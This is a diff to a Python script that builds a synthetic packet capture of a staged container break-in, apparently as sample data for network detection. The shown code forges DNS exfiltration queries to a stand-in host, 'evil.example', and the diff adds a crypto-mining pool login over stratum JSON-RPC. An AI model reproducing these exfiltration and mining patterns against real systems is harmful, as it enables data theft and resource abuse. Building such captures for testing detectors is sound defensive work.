@@ -1,8 +1,8 @@
 """Writes examples/one-machine/capture.pcap: `.venv/bin/python scripts/capture_example.py`.
 
 A staged break-in as it looks on the wire, built by scapy (and OpenSSL's own hellos): a container that was taken over asks the cloud's metadata service for
-credentials, tries the ports of a database, looks for SSH in its network, and sends what it found out in names; beside it a shop goes about its
-business. Addresses are those for documentation and private use.
+credentials, tries the ports of a database, looks for SSH in its network, sends what it found out in names, and at last mines; beside it a shop goes
+about its business. Addresses are those for documentation and private use.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ from tests.support.handshakes import flight
 
 OUT = Path(__file__).parents[1] / "examples" / "one-machine" / "capture.pcap"
 POD, SHOP, RESOLVER, DATABASE = "10.244.1.17", "10.244.1.20", "10.96.0.10", "10.244.2.8"
-CLOUD, CDN = "169.254.169.254", "203.0.113.10"
+CLOUD, CDN, POOL = "169.254.169.254", "203.0.113.10", "198.51.100.33"
 
 
 def pair(src: str, dst: str) -> tuple[Packet, Packet]:
@@ -107,6 +107,10 @@ def attack() -> list[Packet]:
     for number in range(90):
         data = base64.b32encode(hashlib.sha512(b"%d" % number).digest()).decode().lower()
         packets += asked(POD, f"{data[:48]}.{data[48:90]}.x.evil.example", 1000 + number, "ok", "TXT")
+    miner = Connection(*pair(POD, POOL), 46_000, 3333)
+    login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"miner/1.0"}}\n'
+    job = b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"job_id":"7"},"status":"OK"}}\n'
+    packets += [*miner.begin(), *miner.send(login), *miner.send(job, out=False)]
     return packets
 
 
